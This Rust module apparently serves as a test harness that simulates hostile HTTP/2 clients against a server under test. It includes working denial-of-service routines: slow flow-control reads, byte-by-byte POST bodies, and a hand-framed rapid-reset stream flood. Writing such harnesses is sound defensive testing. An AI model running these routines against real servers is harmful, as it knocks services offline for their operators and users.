//! What attackers do with HTTP/2.

use std::io;
use std::ops::Range;
use std::time::Duration;

use bytes::Bytes;
use h2::client::{Builder, SendRequest};
use http::{Method, Request};
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::support::attackers::{Length, PAUSE, Pace, Wish};

impl Wish {
    fn request(&self, method: Method, number: usize, length: Option<usize>) -> Request<()> {
        let mut request = Request::builder().method(method).uri(format!("http://h{}", self.path(number)));
        for (name, value) in &self.attacker.fields {
            request = request.header(*name, value);
        }
        if let Some(length) = length {
            request = request.header("content-length", length);
        }
        request.body(()).expect("a request")
    }

    /// One HTTP/2 connection after the other, with these streams on it.
    pub(crate) async fn shares(self, streams: Range<usize>, window: u32, sends: Option<Length>) {
        loop {
            if let Ok(tcp) = self.attacker.connects().await
                && let Ok((sender, connection)) =
                    Builder::new().initial_window_size(window).handshake::<_, Bytes>(tcp).await
            {
                let mut running = JoinSet::new();
                for number in streams.clone() {
                    let (wish, sender) = (self.clone(), sender.clone());
                    match sends {
                        None => running.spawn(wish.reads_stream(sender, number)),
                        Some(length) => running.spawn(wish.sends_stream(sender, number, length)),
                    };
                }
                drop(sender);
                let _cut = connection.await;
            }
            sleep(PAUSE).await;
        }
    }

    async fn reads_stream(self, sender: SendRequest<Bytes>, number: usize) {
        loop {
            let Ok(mut sender) = sender.clone().ready().await else { return };
            let Ok((answer, _)) = sender.send_request(self.request(Method::GET, number, None), true) else {
                return;
            };
            self.asks();
            if let Ok(answer) = answer.await {
                self.begins();
                self.takes(answer.into_body()).await;
            }
            sleep(PAUSE).await;
        }
    }

    async fn takes(&self, mut body: h2::RecvStream) {
        while let Some(Ok(data)) = body.data().await {
            let Pace::Each(count, every) = self.pace else { continue };
            let mut left = data.len();
            while left > 0 {
                sleep(every).await;
                let now = left.min(count);
                let _closed_already = body.flow_control().release_capacity(now);
                left -= now;
            }
        }
    }

    async fn sends_stream(self, sender: SendRequest<Bytes>, number: usize, length: Length) {
        let told = if let Length::Told(length) = length { Some(length) } else { None };
        loop {
            let Ok(mut sender) = sender.clone().ready().await else { return };
            let sent = sender.send_request(self.request(Method::POST, number, told), false);
            let Ok((answer, mut body)) = sent else { return };
            let mut answer = std::pin::pin!(answer);
            let byte = || Bytes::from_static(b"x");
            let mut goes_on = body.send_data(byte(), false).is_ok();
            self.asks();
            self.begins();
            while goes_on {
                tokio::select! {
                    _answered = &mut answer => break,
                    () = self.waits() => goes_on = body.send_data(byte(), false).is_ok(),
                }
            }
            sleep(PAUSE).await;
        }
    }

    pub(crate) async fn takes_back(self, stay: Duration) {
        loop {
            let _cut = self.takes_back_once(stay).await;
        }
    }

    /// HEADERS of many GETs in one write, and the frames that take them back in another: frame by frame, because no client does that.
    async fn takes_back_once(&self, stay: Duration) -> io::Result<()> {
        let mut stream = self.attacker.connects().await?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
        let ids: Vec<_> = (1..).step_by(2).take(200).map(u32::to_be_bytes).collect();
        for group in ids.chunks(50) {
            let (mut asks, mut resets) = (Vec::new(), Vec::new());
            for id in group {
                let path = self.path(0);
                let length = u8::try_from(path.len()).expect("short");
                let block = [&[0x82, 0x86, 0x04, length], path.as_bytes(), &[0x01, 1, b'h']].concat();
                let length = u8::try_from(block.len()).expect("short");
                asks.extend([&[0, 0, length, 1, 5][..], id, &block].concat());
                resets.extend([&[0, 0, 4, 3, 0][..], id, &[0, 0, 0, 8]].concat());
            }
            stream.write_all(&asks).await?;
            for _ in group {
                self.asks();
                self.begins();
            }
            if !stay.is_zero() {
                sleep(stay).await;
            }
            stream.write_all(&resets).await?;
            // 5,000 a second at most: who takes whole cores is another matter.
            sleep(Duration::from_millis(10)).await;
        }
        stream.set_zero_linger()
    }
}
